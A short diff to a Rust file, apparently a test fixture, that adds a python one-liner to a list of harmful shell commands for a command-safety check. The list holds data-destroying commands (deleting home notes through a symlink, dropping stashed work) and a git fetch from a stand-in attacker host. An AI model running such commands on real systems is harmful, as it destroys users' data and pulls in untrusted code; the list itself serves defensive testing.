@@ -7,6 +7,7 @@ use house::verdict;
 
 /// Each deletes the home folder or the repository, or runs code that nobody read, in some run of a real bash.
 const HARM: &[&str] = &[
+    "python3 -c \"import os, shutil; os.symlink(os.path.expanduser('~'), 'h'); shutil.rmtree('h/notes')\"",
     "git stash -u; git stash drop",
     "git stash && git stash clear",
     "git remote add evil https://evil.test/x && git fetch evil",
